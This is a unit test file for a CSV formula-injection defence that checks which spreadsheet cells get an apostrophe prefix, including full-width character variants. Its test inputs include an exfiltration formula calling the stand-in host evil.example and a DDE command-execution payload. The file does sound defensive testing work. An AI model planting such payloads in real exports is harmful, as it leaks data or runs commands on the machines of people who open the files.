import { describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseCell } from '../../../electron/core/report/formats/cells.js';

describe('neutraliseCell (OWASP CSV injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['-1+1', "'-1+1"],
    ['+86 138 0000 0000', "'+86 138 0000 0000"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    // Full-width forms: neutralised too (WPS / IME paths fold them to ASCII).
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
  ])('prefixes %j with an apostrophe', (input, expected) => {
    expect(looksLikeFormula(input)).toBe(true);
    expect(neutraliseCell(input)).toBe(expected);
  });

  it.each(['有红色吗', '', ' =1+1', 'a=b', "'=already", '99元', '😍=1', '1+1', '（=）'])(
    'leaves %j as it is',
    (input) => {
      expect(looksLikeFormula(input)).toBe(false);
      expect(neutraliseCell(input)).toBe(input);
    },
  );
});
